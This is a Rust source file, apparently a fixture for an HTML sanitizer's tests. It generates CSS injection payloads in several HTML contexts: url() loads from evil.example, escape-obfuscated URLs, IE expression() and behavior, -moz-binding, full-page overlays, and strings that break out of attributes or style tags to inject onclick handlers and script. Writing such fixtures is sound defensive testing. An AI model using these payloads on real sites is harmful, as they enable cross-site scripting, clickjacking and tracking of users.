//! CSS: attributes, elements and sheets that load, cover or move something, or run a script where browsers did.

const RULES: [&str; 16] = [
    "background:url(//evil.example/a.png)",
    "background:u\\72l('https://evil.example/a')",
    "list-style-image:image-set('//evil.example/a' 1x)",
    "cursor:url(//evil.example/a),auto",
    "position:fixed;inset:0;z-index:9",
    "display:none!important",
    "width:expression(evil=1)",
    "behavior:url(//evil.example/a.htc)",
    "-moz-binding:url(//evil.example/a.xml#a)",
    "animation:a 1s",
    "font-family:'a';src:url(//evil.example/a)",
    "content:attr(title)",
    "mso-list:l0 level1 lfo1;background:url(//evil.example/mso)",
    "font-weight:bold;position:fixed;inset:0",
    "font-weight:bold\" onclick=\"evil=1",
    "}</style><script>evil=1</script>",
];

const PLACES: [(&str, &str); 7] = [
    ("<p style=\"", "\">a</p>"),
    ("<span style='", "'>a</span>"),
    ("<style>*{", "}</style>"),
    ("<svg><style>*{", "}</style></svg>"),
    ("<p class=MsoListParagraph style='", "'>a</p>"),
    ("<font face=\"", "\" color=red size=7>a</font>"),
    ("<link rel=stylesheet href=\"data:text/css,*{", "}\">"),
];

pub(crate) fn all() -> Vec<String> {
    let mut all = Vec::new();
    for (before, behind) in PLACES {
        all.extend(RULES.map(|rule| [before, rule, behind].concat()));
    }
    all.push("<style>@import '//evil.example/a.css';</style>".to_owned());
    all.push("<style>@font-face{font-family:a;src:url(//evil.example/a)}p{font-family:a}</style>".to_owned());
    all
}
